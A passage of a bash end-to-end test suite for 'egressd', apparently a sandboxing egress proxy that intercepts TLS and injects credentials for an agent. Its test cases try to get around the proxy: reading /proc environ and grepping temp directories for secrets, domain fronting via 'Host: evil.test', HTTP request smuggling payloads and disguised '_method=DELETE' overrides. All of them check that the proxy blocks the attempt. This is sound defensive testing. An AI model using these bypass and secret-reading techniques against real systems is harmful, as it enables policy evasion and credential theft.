		grep -q "^git: $want HEAD $want refs/heads/main" <<<"$out" ||
			fail "git ls-remote: $(grep '^git' <<<"$out")"
	fi
	# every variable names the same readable bundle; the CA key is not
	# readable and the directory not listable
	grep -Eq '^bundle: (/[^ ]+/ca-bundle.crt)( \1){4}$' <<<"$out" ||
		fail "CA bundle variables: $(grep '^bundle' <<<"$out")"
	grep -q '^key: .*Permission denied' <<<"$out" ||
		fail "CA key readable by the agent? $(grep '^key' <<<"$out")"
	grep -q '^list: .*Permission denied' <<<"$out" ||
		fail "run directory listable: $(grep '^list' <<<"$out")"
	# egressd made the upstream requests, with SNI and Host allowed.test
	[ "$(ic_requests allowed.test | grep -c '"sni": "allowed.test"')" -ge 3 ] ||
		fail "allowed.test saw too few TLS requests: $(oneline "$(log_new allowed.test)")"
	# the per-run directory (and the fresh CA key) is gone after the run
	local dir
	dir=$(sed -n 's/^bundle: \([^ ]*\)\/ca-bundle.crt .*/\1/p' <<<"$out")
	[ -n "$dir" ] && [ ! -e "$dir" ] || fail "run directory $dir left behind"
}

# --inject for one host a policy file's wildcard intercept covers: the
# host's entry starts with the wildcard's rules and credentials, and
# --inject replaces the wildcard's credential for the same header on that
# host (a second credential for one header on one entry stays an error).
case_inject_over_wildcard_credential() {
	need_egressd
	local pol=$E2E_DIR/run/wild-inject.json out rc w x
	cat >"$pol" <<-'EOF'
	{ "name": "wild", "allow": ["*.allowed.test"],
	  "intercept": [ { "host": "*.allowed.test",
	    "credentials": [ { "name": "wild", "header": "Authorization", "value": "env:E2E_W" } ] } ] }
	EOF
	w="Bearer wild-$RANDOM$RANDOM" x="Bearer exact-$RANDOM$RANDOM"
	IC_ENV=(E2E_W="$w" E2E_X="$x")
	out=$(egr_ic --policy "$pol" --inject 'api.allowed.test:authorization=env:E2E_X' -- \
		curl -sS --max-time 10 https://api.allowed.test/echo 2>&1 | tr -d '\r')
	rc=$?
	[ "$rc" = 0 ] || fail "--inject over the wildcard's credential: exit $rc: $(oneline "$(tail -2 "$CASE_STDERR")")"
	grep -qi "^Authorization: $x\$" <<<"$out" ||
		fail "api.allowed.test did not get --inject's credential: $(oneline "$out")"
	grep -qF "$w" <<<"$out" && fail "api.allowed.test got the wildcard's credential too"
	note "$(grep -i "^Authorization:" <<<"$out")"
	out=$(egr_ic --policy "$pol" --inject 'api.allowed.test:authorization=env:E2E_X' \
		--inject 'api.allowed.test:authorization=env:E2E_W' -- true 2>&1)
	rc=$?
	[ "$rc" = 2 ] && grep -q "already gets a authorization credential" "$CASE_STDERR" ||
		fail "two --inject for one header: exit $rc: $(oneline "$(tail -2 "$CASE_STDERR")")"
}

case_intercept_injects_credential() {
	need_egressd
	local pol=$E2E_DIR/run/inject-policy.json out key auth echo rest
	key=e2e-key-$RANDOM$RANDOM$RANDOM
	auth="Bearer e2e-tok-$RANDOM$RANDOM$RANDOM"
	cat >"$pol" <<-'EOF'
	{
	  "name": "inject",
	  "allow": ["allowed.test"],
	  "intercept": [
	    { "host": "allowed.test",
	      "credentials": [ { "name": "bed-token", "header": "Authorization",
	                         "value": "env:E2E_AUTH" } ] }
	  ]
	}
	EOF
	log_mark allowed.test
	IC_ENV=(E2E_AUTH="$auth" E2E_KEY="$key")
	# The search skips the bed's srv/: the fake internet's request logs
	# (world-readable) hold what the servers received, values included.
	out=$(egr_ic --policy "$pol" --inject 'allowed.test:x-api-key=env:E2E_KEY' -- sh -c '
		curl -sS --max-time 10 -H "Authorization: Bearer agent-fake" \
			-H "x-api-key: agent-fake" "https://allowed.test/echo?q=e2e-query" 2>&1
		echo "---rest"
		env
		e=$(awk "{print \$4}" /proc/$PPID/stat) # egressd: the monitor parent
		echo "parent: $(cat /proc/$PPID/comm) $(cat /proc/$e/comm)"
		echo "environ: $(cat /proc/$e/environ 2>&1 | tr "\0" " ")"
		grep -rs --exclude-dir=srv "e2e-" /tmp /run/egressd 2>/dev/null | head -3
		echo "---end"')
	IC_ENV=()
	echo=$(sed '/^---rest/,$d' <<<"$out")
	rest=$(sed -n '/^---rest/,$p' <<<"$out")
	note "$echo"
	grep -qi "^Authorization: $auth" <<<"$echo" ||
		fail "the server did not get the real Authorization: $(oneline "$echo")"
	grep -qi "^x-api-key: $key" <<<"$echo" ||
		fail "the server did not get the real x-api-key: $(oneline "$echo")"
	grep -q 'agent-fake' <<<"$echo" && fail "the agent's own value reached the server"
	[ "$(grep -ci '^authorization:' <<<"$echo")" = 1 ] ||
		fail "Authorization sent more than once: $(oneline "$echo")"
	ic_requests allowed.test | grep -qF "$key" ||
		fail "the server log has no request with the key"
	grep -q '^---end' <<<"$rest" || fail "agent script did not finish: $(oneline "$rest")"
	grep -q '^parent: egressd-monitor egressd$' <<<"$rest" ||
		fail "parents are not the monitor and egressd: $(oneline "$rest")"
	grep -q '^environ: .*Permission denied' <<<"$rest" ||
		fail "/proc/<egressd>/environ readable: $(grep '^environ' <<<"$rest" | cut -c1-100)"
	grep -q 'E2E_KEY\|E2E_AUTH' <<<"$rest" &&
		fail "a credential variable is in the agent's environment"
	grep -qF -e "$key" -e "${auth#Bearer }" <<<"$rest" &&
		fail "a credential value is readable inside: $(oneline "$rest")"
	grep -qF -e "$key" -e "${auth#Bearer }" "$CASE_AUDIT" "$CASE_STDERR" &&
		fail "a credential value is in the audit log or egressd's stderr"
	grep -q 'bed-token' "$CASE_AUDIT" ||
		fail "the audit log does not name the injected credential"
	# the request's own audit fields: path without the query string,
	# both credentials by name
	audit_find '(o.get("origin") == "intercept" and o.get("sni") == "allowed.test" and
		o.get("http", {}).get("method") == "GET" and o["http"].get("path") == "/echo" and
		o["http"].get("status") == 200 and
		sorted(o["http"].get("credentials", [])) == ["bed-token", "x-api-key"] and
		o["http"].get("resp_body_bytes", 0) > 0 and "detail" not in o)' >/dev/null ||
		fail "no audit record with http fields GET /echo 200 [bed-token, x-api-key]: $(head -c 600 "$CASE_AUDIT")"
	grep -q 'e2e-query' "$CASE_AUDIT" && fail "the query string is in the audit log"
	return 0
}

IC_RULES_POLICY='{
  "allow": ["allowed.test"],
  "intercept": [
    { "host": "allowed.test",
      "rules": [
        { "name": "read-public", "methods": ["GET", "HEAD"], "paths": ["/public/**"] },
        { "name": "no-admin", "action": "deny", "methods": ["*"], "paths": ["/admin/**"] }
      ] }
  ]
}'

case_intercept_method_path_rules() {
	need_egressd
	local pol=$E2E_DIR/run/rules-policy.json out reqs
	printf '%s\n' "$IC_RULES_POLICY" >"$pol"
	log_mark allowed.test
	out=$(egr_ic --policy "$pol" -- sh -c '
		c() { curl -sS --max-time 10 -w "\n@%{http_code}" "$@" 2>&1 | tr "\n" " "; echo; }
		echo "get: $(c https://allowed.test/public/readme)"
		echo "post-admin: $(c -X POST -d x=1 https://allowed.test/admin/users)"
		echo "post-public: $(c -X POST -d x=1 https://allowed.test/public/readme)"
		echo "get-other: $(c https://allowed.test/private)"
		echo "plain-admin: $(c -X POST -d x=1 http://allowed.test/admin/users)"')
	note "$out"
	# plain HTTP would pass the rules unchecked: refused, not relayed
	grep -q '^plain-admin: egressd: allowed.test:80 denied: tls_required *@403' <<<"$out" ||
		fail "plain HTTP to the intercepted host: $(grep '^plain-admin' <<<"$out")"
	grep -q '^get: hello from allowed.test *@200' <<<"$out" ||
		fail "allowed GET: $(grep '^get:' <<<"$out")"
	grep -q '^post-admin: .*no-admin.*@403' <<<"$out" ||
		fail "POST /admin: expected 403 naming no-admin: $(grep '^post-admin' <<<"$out")"
	grep -q '^post-public: .*@403' <<<"$out" ||
		fail "POST /public (no rule): $(grep '^post-public' <<<"$out")"
	grep -q '^get-other: .*@403' <<<"$out" ||
		fail "GET /private (no rule): $(grep '^get-other' <<<"$out")"
	sleep 0.2
	reqs=$(ic_requests allowed.test)
	[ "$(grep -c . <<<"$reqs")" = 1 ] && grep -q 'GET /public/readme' <<<"$reqs" ||
		fail "the server should have seen only GET /public/readme: $(oneline "$reqs")"
	grep -q '"no-admin"' "$CASE_AUDIT" || fail "no audit record names rule no-admin"
	audit_find '(o.get("verdict") == "deny" and o.get("rule") == "no-admin" and
		o.get("http", {}).get("method") == "POST" and
		o["http"].get("path") == "/admin/users" and o["http"].get("status") == 403 and
		o["http"].get("credentials") == [])' >/dev/null ||
		fail "no audit record POST /admin/users 403 by no-admin: $(head -c 600 "$CASE_AUDIT")"
	audit_find '(o.get("verdict") == "allow" and o.get("rule") == "read-public" and
		o.get("http", {}).get("method") == "GET" and
		o["http"].get("path") == "/public/readme" and o["http"].get("status") == 200)' \
		>/dev/null || fail "no audit record GET /public/readme 200 by read-public"
	audit_find '(o.get("verdict") == "deny" and o.get("reason") == "tls_required" and
		o.get("host") == "allowed.test" and o.get("dst_port") == 80)' >/dev/null ||
		fail "no tls_required denial of plain HTTP to allowed.test"
}

# Rails (Rack::MethodOverride), Laravel and Symfony take the method from a
# POST body's _method (Laravel from a JSON body's too): POST /public/a with
# _method=DELETE is a DELETE there. The rules allow reading and POST under
# /public, not DELETE: such a request is refused at the end of its body,
# before the server has all of it; one naming an allowed method passes.
case_intercept_body_method_override() {
	need_egressd
	local pol=$E2E_DIR/run/override-policy.json out reqs
	cat >"$pol" <<'JSON'
{
  "allow": ["allowed.test"],
  "intercept": [
    { "host": "allowed.test",
      "rules": [
        { "name": "read-public", "methods": ["GET", "HEAD"], "paths": ["/public/**"] },
        { "name": "post-public", "methods": ["POST"], "paths": ["/public/**"] }
      ] }
  ]
}
JSON
	log_mark allowed.test
	out=$(egr_ic --policy "$pol" -- sh -c '
		c() { curl -sS --max-time 20 -w "\n@%{http_code}" "$@" 2>&1 | tr "\n" " "; echo; }
		echo "form: $(c -d _method=DELETE https://allowed.test/public/a)"
		echo "json: $(c -H "Content-Type: application/json" -d "{\"a\":1, \"\\u005fmethod\":\"delete\"}" https://allowed.test/public/b)"
		echo "multipart: $(c -F x=1 -F _method=DELETE https://allowed.test/public/c)"
		echo "big: $({ printf "x="; head -c 300000 /dev/zero | tr "\0" a; printf "%s" "&_method=DELETE"; } |
			c -H "Content-Type: application/x-www-form-urlencoded" --data-binary @- https://allowed.test/public/big)"
		echo "chunked: $(c -H "Transfer-Encoding: chunked" -d "x=1&%5Fmethod=delete" https://allowed.test/public/f)"
		echo "gzip: $(printf "%s" "a=1&[_method]=DELETE" | gzip -c | c -H "Content-Encoding: gzip" \
			-H "Content-Type: application/x-www-form-urlencoded" --data-binary @- https://allowed.test/public/h)"
		echo "folded: $(printf "%s\r\n%s\r\n%s\r\n\r\n%s\r\n%s\r\n" "--B" \
			"Content-Disposition: form-data; name=\"_met" "hod\"" DELETE "--B--" |
			c -H "Content-Type: multipart/form-data; boundary=B" --data-binary @- https://allowed.test/public/i)"
		echo "allowed: $(c -d "_method=GET&a=1" https://allowed.test/public/d)"
		echo "plain: $(c -d "payment_method=card" https://allowed.test/public/e)"
		echo "text: $(c -H "Content-Type: text/plain" -d "_method=DELETE" https://allowed.test/public/g)"')
	note "$out"
	local k
	for k in form json multipart big chunked gzip; do
		grep -q "^$k: .*method override (_method) in the body denied.*@403" <<<"$out" ||
			fail "$k: expected 403 for _method=DELETE: $(grep "^$k:" <<<"$out" | head -c 300)"
	done
	# PHP joins the folded name: a field egressd cannot read, refused
	grep -q "^folded: .*_method.*@400" <<<"$out" ||
		fail "folded: expected 400: $(grep "^folded:" <<<"$out" | head -c 300)"
	for k in allowed plain text; do
		grep -q "^$k: hello from allowed.test *@200" <<<"$out" ||
			fail "$k: expected 200: $(grep "^$k:" <<<"$out" | head -c 300)"
	done
	sleep 0.3
	reqs=$(ic_requests allowed.test)
	# The server may have seen a refused request begin, never end.
	"$E2E_PY" -c 'import json, sys
done = {}
for l in sys.stdin:
    o = json.loads(l)
    clen = [int(v) for k, v in o["headers"] if k.lower() == "content-length"]
    path = o["request"].split(" ")[1]
    if clen and o["body_len"] == clen[0] or not clen:
        done[path] = True
want = {"/public/d", "/public/e", "/public/g"}
ok = set(done) & {"/public/" + p for p in ("a", "b", "c", "big", "d", "e", "g", "h", "i")}
if ok != want:
    sys.exit("complete requests at the server: %s, want %s" % (sorted(ok), sorted(want)))
' <<<"$reqs" || fail "server side: $(oneline "$reqs" | head -c 600)"
	audit_find '(o.get("verdict") == "deny" and o.get("rule") == "post-public" and
		o.get("http", {}).get("method") == "POST" and
		o["http"].get("path") == "/public/a" and o["http"].get("status") == 403 and
		"_method" in o.get("detail", o.get("why", "")))' >/dev/null ||
		fail "no audit record POST /public/a 403 naming _method: $(grep public/a "$CASE_AUDIT" | head -c 600)"
	# audit mode: let through, on record as what enforce would answer
	sed -i 's/^{$/{ "mode": "audit",/' "$pol"
	out=$(egr_ic --policy "$pol" -- \
		curl -sS --max-time 20 -w "\n@%{http_code}" -d _method=DELETE https://allowed.test/public/au 2>&1)
	note "audit: $out"
	grep -q '^@200' <<<"$out" || fail "audit mode: expected 200: $(oneline "$out")"
	audit_find '(o.get("verdict") == "audit" and
		o.get("http", {}).get("path") == "/public/au" and o["http"].get("status") == 200 and
		"would be 403" in o.get("detail", "") and "_method" in o.get("detail", ""))' >/dev/null ||
		fail "no audit-mode record of /public/au: $(grep public/au "$CASE_AUDIT" | head -c 600)"
}

# Where every method is allowed, or in audit mode, a POST body egressd
# cannot read for _method (LF-only multipart as google-api-python-client
# sends uploads, JSON in Content-Encoding: br) is forwarded, not refused;
# its server might act on a HEAD named there, so the connection ends after
# its answer (the next request on it needs a new connection). A readable
# _method=HEAD stays refused.
case_intercept_unread_body_closes() {
	need_egressd
	local pol=$E2E_DIR/run/unread-policy.json out
	cat >"$pol" <<'JSON'
{
  "allow": ["allowed.test"],
  "intercept": [
    { "host": "allowed.test",
      "rules": [ { "name": "all", "methods": ["*"], "paths": ["/**"] } ] }
  ]
}
JSON
	log_mark allowed.test
	out=$(egr_ic --policy "$pol" -- sh -c '
		c() { curl -sS --max-time 20 -w "\n@%{http_code} #%{num_connects}" "$@" 2>&1 | tr -d "\r" | tr "\n" " "; echo; }
		w="\n@%{http_code} #%{num_connects}"
		echo "lf: $(printf "%s\n%s\n\n%s\n%s" "--B" "Content-Type: application/json" "{}" "--B--" |
			c -H "Content-Type: multipart/related; boundary=B" --data-binary @- https://allowed.test/public/lf \
			--next -w "$w" https://allowed.test/public/after)"
		echo "br: $(c -H "Content-Type: application/json" -H "Content-Encoding: br" -d "{}" https://allowed.test/public/br)"
		echo "head: $(c -d "_method=HEAD" https://allowed.test/public/hd)"')
	note "$out"
	# both answered; that the connection closes after the first is on
	# the record below and in test_intercept's test_audit_unread_body_closes
	# (curl reconnects here anyway: two GETs through the bed do not share
	# a connection either, so num_connects cannot show it)
	grep -q "^lf: hello from allowed.test *@200 #1 *hello from allowed.test *@200" <<<"$out" ||
		fail "lf: expected 200, then 200: $(grep "^lf:" <<<"$out" | head -c 300)"
	grep -q "^br: hello from allowed.test *@200" <<<"$out" ||
		fail "br: expected 200: $(grep "^br:" <<<"$out" | head -c 300)"
	grep -q "^head: .*HEAD.*@400" <<<"$out" ||
		fail "head: expected 400: $(grep "^head:" <<<"$out" | head -c 300)"
	sleep 0.3
	audit_find '(o.get("verdict") == "allow" and o.get("http", {}).get("path") == "/public/lf" and
		o["http"].get("status") == 200 and
		"connection closed after this response" in o.get("detail", ""))' >/dev/null ||
		fail "no record of /public/lf naming the close: $(grep public/lf "$CASE_AUDIT" | head -c 600)"
	# audit mode, rules that refuse DELETE: forwarded too, not 415
	cat >"$pol" <<'JSON'
{ "mode": "audit",
  "allow": ["allowed.test"],
  "intercept": [
    { "host": "allowed.test",
      "rules": [ { "name": "post", "methods": ["GET", "POST"], "paths": ["/**"] } ] }
  ]
}
JSON
	out=$(egr_ic --policy "$pol" -- curl -sS --max-time 20 -w "\n@%{http_code}" \
		-H "Content-Type: application/json" -H "Content-Encoding: br" -d "{}" \
		https://allowed.test/public/abr 2>&1)
	note "audit br: $out"
	grep -q '^@200' <<<"$out" || fail "audit mode br: expected 200: $(oneline "$out")"
	audit_find '(o.get("http", {}).get("path") == "/public/abr" and o["http"].get("status") == 200 and
		"connection closed after this response" in o.get("detail", ""))' >/dev/null ||
		fail "no record of /public/abr naming the close: $(grep public/abr "$CASE_AUDIT" | head -c 600)"
}

# Audit mode with a credential: credentials come only with an allow. A
# POST whose body names a method the rules refuse (_method=DELETE, which
# enforce mode refuses at the body's end) must not reach the server whole
# with the injected credential; a POST without one still gets it.
case_intercept_audit_body_override_credential() {
	need_egressd
	local pol=$E2E_DIR/run/audit-cred-policy.json out tok reqs
	tok="Bearer e2e-audit-$RANDOM$RANDOM$RANDOM"
	cat >"$pol" <<'JSON'
{
  "mode": "audit",
  "allow": ["allowed.test"],
  "intercept": [
    { "host": "allowed.test",
      "rules": [
        { "name": "read", "methods": ["GET", "HEAD"], "paths": ["/**"] },
        { "name": "post-echo", "methods": ["POST"], "paths": ["/echo"] }
      ],
      "credentials": [ { "name": "bed-token", "header": "Authorization",
                         "value": "env:E2E_AUTH" } ] }
  ]
}
JSON
	log_mark allowed.test
	IC_ENV=(E2E_AUTH="$tok")
	out=$(egr_ic --policy "$pol" -- sh -c '
		c() { curl -sS --max-time 20 -w "\n@%{http_code}" "$@" 2>&1 | tr -d "\r" | tr "\n" " "; echo; }
		echo "override: $(c -d "_method=DELETE&a=1" "https://allowed.test/echo?o=1")"
		echo "plain: $(c -d "a=1" "https://allowed.test/echo?o=2")"
		echo "json: $(c -H "Content-Type: application/json" -d "{\"a\":1}" "https://allowed.test/echo?o=3")"')
	IC_ENV=()
	note "$out"
	sleep 0.3
	reqs=$(ic_requests allowed.test)
	# the server never has the override request whole with the credential
	"$E2E_PY" -c 'import json, sys
tok = sys.argv[1]
seen = set()
for l in sys.stdin:
    o = json.loads(l)
    h = {k.lower(): v for k, v in o["headers"]}
    clen = int(h.get("content-length", "0"))
    q = o["request"].split(" ")[1].split("?")[-1]
    whole = o["body_len"] == clen
    if q == "o=1" and whole and h.get("authorization") == tok:
        sys.exit("POST with _method=DELETE reached the server whole with the credential")
    if whole and h.get("authorization") == tok:
        seen.add(q)
if seen != {"o=2", "o=3"}:
    sys.exit("credentialed complete requests: %s, want o=2 and o=3" % sorted(seen))
' "$tok" <<<"$reqs" || fail "server side: $(oneline "$reqs" | sed "s/$tok/TOKEN/g" | head -c 700)"
	grep -q "^override: .*@403" <<<"$out" ||
		fail "override: expected 403: $(grep "^override:" <<<"$out" | sed "s/$tok/TOKEN/g" | head -c 300)"
	for k in plain json; do
		grep -q "^$k: .*@200" <<<"$out" ||
			fail "$k: expected 200: $(grep "^$k:" <<<"$out" | sed "s/$tok/TOKEN/g" | head -c 300)"
	done
	audit_find '(o.get("verdict") == "deny" and o.get("http", {}).get("path") == "/echo" and
		o["http"].get("status") == 403 and "_method" in o.get("detail", ""))' >/dev/null ||
		fail "no audit record of the refused override: $(grep -F /echo "$CASE_AUDIT" | head -c 700)"
	grep -qF "${tok#Bearer }" "$CASE_AUDIT" "$CASE_STDERR" &&
		fail "the credential value is in the audit log or egressd's stderr"
	return 0
}

case_intercept_domain_fronting() {
	need_egressd
	local out
	log_mark evil.test
	log_mark allowed.test
	out=$(egr_ic --allow allowed.test --intercept allowed.test -- sh -c '
		echo "host: $(curl -sS --max-time 10 -o /dev/null -w "%{http_code}" \
			-H "Host: evil.test" https://allowed.test/ 2>&1)"
		echo "absolute: $(curl -sS --max-time 10 -o /dev/null -w "%{http_code}" \
			--request-target https://evil.test/ https://allowed.test/ 2>&1)"')
	note "$out"
	grep -Eq '^host: (421|403)$' <<<"$out" || fail "Host evil.test: $(grep '^host' <<<"$out")"
	grep -Eq '^absolute: (421|403)$' <<<"$out" ||
		fail "absolute-form to evil.test: $(grep '^absolute' <<<"$out")"
	evil_untouched "domain fronting"
	[ -z "$(ic_requests allowed.test)" ] ||
		fail "allowed.test got a request: $(oneline "$(ic_requests allowed.test)")"
}

# The rules match a Host case-insensitively and with or without a trailing
# dot, and an absolute-form target's authority like a Host. The upstream
# gets one spelling of the name (a server or CDN routing on the spelling
# cannot be steered to another site), and an absolute-form target in
# origin-form (a server takes its authority over the Host).
case_intercept_canonical_host() {
	need_egressd
	local out
	log_mark allowed.test
	out=$(egr_ic --allow allowed.test --intercept allowed.test -- sh -c '
		curl -sS --max-time 10 -H "Host: ALLOWED.Test." https://allowed.test/echo 2>&1
		echo "---"
		curl -sS --max-time 10 --request-target "https://Allowed.TEST./echo?x=1" \
			https://allowed.test/ 2>&1')
	note "$out"
	local first=${out%%---*} second=${out#*---}
	grep -q '^GET /echo HTTP/1.1' <<<"$first" || fail "request line: $(oneline "$first")"
	grep -qx $'Host: allowed.test\r\\?' <<<"$first" ||
		fail "Host upstream not allowed.test: $(oneline "$first")"
	[ "$(grep -ci '^host:' <<<"$first")" = 1 ] || fail "several Host fields: $(oneline "$first")"
	grep -q '^GET /echo?x=1 HTTP/1.1' <<<"$second" ||
		fail "absolute-form not sent in origin-form: $(oneline "$second")"
	grep -qx $'Host: allowed.test\r\\?' <<<"$second" ||
		fail "Host upstream (absolute-form): $(oneline "$second")"
}

case_intercept_upstream_unverified() {
	need_egressd
	local d=$E2E_DIR/run/otherca out
	mkdir -p "$d"
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes \
		-keyout "$d/ca.key" -out "$d/ca.pem" -days 2 -subj "/CN=unrelated CA" \
		-addext basicConstraints=critical,CA:TRUE 2>/dev/null || fail "openssl"
	log_mark allowed.test
	out=$(egr_ic --allow allowed.test --intercept allowed.test \
		--upstream-ca "$d/ca.pem" -- \
		curl -sS --max-time 10 -w '\n@%{http_code}' https://allowed.test/ 2>&1)
	note "$out"
	grep -q '^@502$' <<<"$out" || fail "expected 502: $(oneline "$out")"
	[ "$(grep -v '^@' <<<"$out" | grep -c .)" -ge 1 ] || fail "502 without a reason"
	grep -q 'hello from allowed' <<<"$out" && fail "the request went through"
	sleep 0.2
	[ -z "$(ic_requests allowed.test)" ] ||
		fail "allowed.test got a request: $(oneline "$(ic_requests allowed.test)")"
}

# Gateway mode (docs/interception.md): an SDK with a base URL
# (ANTHROPIC_BASE_URL=http://127.0.0.1:8080) talks plain HTTP to a loopback
# address that exists only through egressd, which sends it on as verified
# TLS to the upstream with the credential. No CA in the agent, no token in
# its environment; every other loopback port stays refused.
case_gateway_mode() {
	need_egressd
	local tok out echo rest reqs
	tok="Bearer e2e-gw-$RANDOM$RANDOM$RANDOM"
	log_mark allowed.test
	IC_ENV=(BED_TOKEN="$tok")
	out=$(egr_ic --allow allowed.test --gateway 127.0.0.1:8080=https://allowed.test \
		--inject 'allowed.test:Authorization=env:BED_TOKEN' -- sh -c '
		curl -sS --max-time 10 -H "Authorization: Bearer agent-fake" \
			http://127.0.0.1:8080/echo 2>&1
		echo "---rest"
		if command -v node >/dev/null; then
			echo "node: $(node -e "$1" http://127.0.0.1:8080/ 2>&1)"
		fi
		echo "other: $("$2" "$3" raw 127.0.0.1 8081 --host localhost 2>&1)"
		echo "fronted: $(curl -sS --max-time 10 -o /dev/null -w "%{http_code}" \
			-H "Host: evil.test" http://127.0.0.1:8080/echo 2>&1)"
		echo "bundle: ${SSL_CERT_FILE:-none} ${NODE_EXTRA_CA_CERTS:-none}"
		env
		echo "---end"' sh "$NODE_FETCH" "$E2E_PY" "$E2E_DIR/bin/client.py")
	IC_ENV=()
	echo=$(sed '/^---rest/,$d' <<<"$out" | tr -d '\r')
	rest=$(sed -n '/^---rest/,$p' <<<"$out")
	note "$echo"
	note "$(grep -v '^[A-Z_]*=' <<<"$rest")"
	grep -q '^---end' <<<"$rest" || fail "agent script did not finish: $(oneline "$out")"
	grep -qi "^Authorization: $tok" <<<"$echo" ||
		fail "the server did not get the real Authorization: $(oneline "$echo")"
	grep -q 'agent-fake' <<<"$echo" && fail "the agent's own Authorization reached the server"
	grep -qi '^Host: allowed.test$' <<<"$echo" ||
		fail "the server did not see Host allowed.test: $(oneline "$echo")"
	grep -q '127.0.0.1:8080' <<<"$echo" && fail "the gateway address reached the server"
	if command -v node >/dev/null; then
		grep -qxF "node: hello from allowed.test" <<<"$rest" ||
			fail "node fetch via the gateway: $(grep '^node' <<<"$rest")"
	fi
	# upstream leg: TLS with SNI allowed.test, made by egressd
	sleep 0.2
	reqs=$(ic_requests allowed.test)
	grep -q '"sni": "allowed.test"' <<<"$reqs" && grep -q '"host": "allowed.test"' <<<"$reqs" ||
		fail "allowed.test saw no TLS request for allowed.test: $(oneline "$reqs")"
	grep -q 'evil.test' <<<"$reqs" && fail "a request with Host evil.test went upstream"
	grep -Eq '^fronted: (421|403)$' <<<"$rest" ||
		fail "Host evil.test through the gateway: $(grep '^fronted' <<<"$rest")"
	# another loopback port is still refused in the kernel
	[ "$(jget errname <<<"$(sed -n 's/^other: //p' <<<"$rest")")" = EPERM ] ||
		fail "127.0.0.1:8081: expected EPERM: $(grep '^other' <<<"$rest")"
	# no CA was needed or handed out
	grep -qxF 'bundle: none none' <<<"$rest" ||
		fail "the run set a CA bundle for a gateway-only run: $(grep '^bundle' <<<"$rest")"
	grep -q '^BED_TOKEN=' <<<"$rest" && fail "BED_TOKEN is in the agent's environment"
	grep -qF "${tok#Bearer }" <<<"$rest" && fail "the token is readable inside"
	grep -qF "${tok#Bearer }" "$CASE_AUDIT" "$CASE_STDERR" &&
		fail "the token is in the audit log or egressd's stderr"
	audit_find '(o.get("origin") == "gateway" and o.get("host") == "allowed.test" and
		o.get("http", {}).get("method") == "GET" and o["http"].get("path") == "/echo" and
		o["http"].get("status") == 200 and
		o["http"].get("credentials") == ["Authorization"])' >/dev/null ||
		fail "no gateway audit record naming the credential: $(head -c 600 "$CASE_AUDIT")"
	return 0
}

case_intercept_smuggling() {
	need_egressd
	local out
	log_mark allowed.test
	out=$(egr_ic --allow allowed.test --intercept allowed.test -- sh -c '
		r() { echo "$1: $(python3 -c "$2" allowed.test "$3" 2>&1 | head -n 1)"; }
		r cl-te "$1" "POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
		r dup-cl "$1" "POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
		r bad-chunk "$1" "POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nGET /smuggled HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
		' sh "$IC_RAW")
	note "$out"
	grep -q '^cl-te: HTTP/1.1 400' <<<"$out" || fail "CL+TE: $(grep '^cl-te' <<<"$out")"
	grep -q '^dup-cl: HTTP/1.1 400' <<<"$out" || fail "duplicate CL: $(grep '^dup-cl' <<<"$out")"
	grep -q '^bad-chunk: HTTP/1.1 400' <<<"$out" ||
		note "invalid chunk size answered: $(grep '^bad-chunk' <<<"$out")"
	sleep 0.2
	ic_requests allowed.test | grep -q smuggled && fail "a smuggled request reached the server"
	# refused framing never reaches the server, not even as a first request
	[ -z "$(ic_requests allowed.test)" ] ||
		fail "the server got requests: $(oneline "$(ic_requests allowed.test)")"
}

case_not_intercepted_passthrough() {
	need_egressd
	local out
	log_mark other.test
	out=$(egr_ic --allow allowed.test --allow other.test --intercept allowed.test -- sh -c '
		echo "other: $(sh -c "$1" sh other.test)"
		echo "allowed: $(sh -c "$1" sh allowed.test)"
		echo "curl: $(curl -sS --max-time 10 --cacert "$2" https://other.test/ 2>&1)"
		' sh "$IC_ISSUER" "$E2E_CA")
	note "$out"
	grep -q '^other: .*egressd e2e test CA' <<<"$out" ||
		fail "other.test not passed through: $(grep '^other' <<<"$out")"
	grep -q '^allowed: .*egressd local CA' <<<"$out" ||
		fail "allowed.test not intercepted: $(grep '^allowed' <<<"$out")"
	grep -qxF 'curl: hello from other.test' <<<"$out" ||
		fail "curl to other.test with the bed CA: $(grep '^curl' <<<"$out")"
	log_new other.test | grep -q '"sni": "other.test"' || fail "other.test saw no request"
}

# ---------------------------------------------------------------------

PASS=0
FAILED=0
SKIPPED=0

report() { # STATUS NAME WHY
	case $1 in
	ok) echo "ok - $2"; PASS=$((PASS + 1)) ;;
	skip) echo "skip - $2: $3"; SKIPPED=$((SKIPPED + 1)) ;;
	*) echo "not ok - $2: $3"; FAILED=$((FAILED + 1)) ;;
	esac
}

run_case() {
	local name=$1 rc why
	CASE_AUDIT=$E2E_DIR/cases/$name.audit.jsonl
	CASE_STDERR=$E2E_DIR/cases/$name.stderr
	WHYF=$E2E_DIR/cases/$name.why
	NOTEF=$E2E_DIR/cases/$name.notes
	: >"$CASE_AUDIT"
	: >"$CASE_STDERR"
	: >"$WHYF"
	: >"$NOTEF"
	local npids pid
	npids=$(wc -l <"$E2E_DIR/pids")
	(set +e; "case_$name")
	rc=$?
	# Helpers a case started (and agents it tracked) end with the case,
	# also when it failed half-way.
	tail -n +$((npids + 1)) "$E2E_DIR/pids" | while read -r pid; do
		[ -n "$pid" ] && bed_stop_pid "$pid"
	done
	why=$(cat "$WHYF" 2>/dev/null)
	if [ -n "${E2E_VERBOSE:-}" ] || [ $rc -ne 0 ]; then
		sed 's/^/#   /' "$NOTEF" 2>/dev/null
	fi
	case $rc in
	0) report ok "$name" ;;
	77) report skip "$name" "$why" ;;
	*)
		report fail "$name" "${why:-exit status $rc}"
		if [ -s "$CASE_STDERR" ]; then
			echo "#   egressd stderr (last lines):"
			tail -n 6 "$CASE_STDERR" | cut -c1-300 | sed 's/^/#     /'
		fi
		;;
	esac
}

selected() {
	local name=$1 p
	[ ${#FILTER[@]} -eq 0 ] && return 0
	for p in "${FILTER[@]}"; do
		[[ $name == *"$p"* ]] && return 0
	done
	return 1
}

summary() {
